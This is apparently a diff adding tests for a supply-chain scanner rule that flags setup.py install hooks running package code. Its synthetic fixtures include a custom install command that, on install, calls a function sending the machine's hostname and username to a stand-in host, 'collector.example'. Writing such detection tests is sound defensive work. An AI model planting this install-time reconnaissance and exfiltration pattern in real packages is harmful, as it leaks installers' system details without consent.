@@ -1,0 +1,77 @@
+"""The package's own code that setup.py runs at install, on small synthetic packages
+(reserved example hosts, nothing is ever run), and on look-alikes that only run when called."""
+
+from __future__ import annotations
+
+from tests.analysis.builders import run_rule, sdist
+from threatfeed.analysis import Engine
+from threatfeed.analysis.rules.setup_reach import setup_runs_package_code_rule
+
+SURVEY = (
+    "import getpass, socket, urllib.request\n\n"
+    "def report():\n"
+    "    who = socket.gethostname() + '/' + getpass.getuser()\n"
+    "    urllib.request.urlopen('https://collector.example/p?h=' + who)\n"
+)
+HOOKED_SETUP = (
+    "from setuptools import setup\n"
+    "from setuptools.command.install import install\n\n"
+    "class Install(install):\n"
+    "    def run(self):\n"
+    "        install.run(self)\n"
+    "        from tidy_strings import hello\n"
+    "        hello()\n\n"
+    "setup(name='tidy-strings', version='0.4.0', cmdclass={'install': Install})\n"
+)
+
+
+def test_setup_calling_package_code_that_reports_the_host_flags(engine: Engine) -> None:
+    archive = sdist(
+        {
+            "tidy_strings/__init__.py": "from .probe import report\n\ndef hello():\n    report()\n",
+            "tidy_strings/probe.py": SURVEY,
+        },
+        setup_py=HOOKED_SETUP,
+    )
+    evidence = run_rule(engine, setup_runs_package_code_rule, archive)
+    assert evidence[0]["file"] == "tidy-strings-0.4.0/setup.py"
+    assert {call["type"] for call in evidence[0]["calls"]} == {"network", "recon"}
+    assert {call["file"] for call in evidence[0]["calls"]} == {
+        "tidy-strings-0.4.0/tidy_strings/probe.py"
+    }
+    assert engine.analyze(archive).flagged
+
+
+def test_setup_reading_the_version_or_calling_a_quiet_helper_is_not_reported(
+    engine: Engine,
+) -> None:
+    version_only = (
+        "from setuptools import setup\nfrom tidy_strings import __version__\n\n"
+        "setup(name='tidy-strings', version=__version__)\n"
+    )
+    files = {
+        "tidy_strings/__init__.py": "__version__ = '0.4.0'\nfrom .probe import report\n\n"
+        "def hello():\n    return 'hi'\n",
+        "tidy_strings/probe.py": SURVEY,
+    }
+    # The package sends the host name when ``report()`` is called, which setup.py never does.
+    assert (
+        run_rule(engine, setup_runs_package_code_rule, sdist(files, setup_py=version_only)) is None
+    )
+    assert (
+        run_rule(engine, setup_runs_package_code_rule, sdist(files, setup_py=HOOKED_SETUP)) is None
+    )
+
+
+def test_a_vendored_setuptools_called_by_setup_py_is_not_package_code(engine: Engine) -> None:
+    """setuptools' own sdist (or one vendoring it) holds the ``setup()`` that setup.py calls,
+    with its downloaders and subprocess calls: the build tool, not a payload."""
+    files = {
+        "setuptools/__init__.py": "import subprocess, urllib.request\n\n"
+        "def setup(**kw):\n"
+        "    urllib.request.urlopen('https://index.example.net/simple/')\n"
+        "    subprocess.run(['cc', '--version'])\n",
+    }
+    setup_py = "from setuptools import setup\n\nsetup(name='tidy-strings')\n"
+    archive = sdist(files, setup_py=setup_py)
+    assert run_rule(engine, setup_runs_package_code_rule, archive) is None
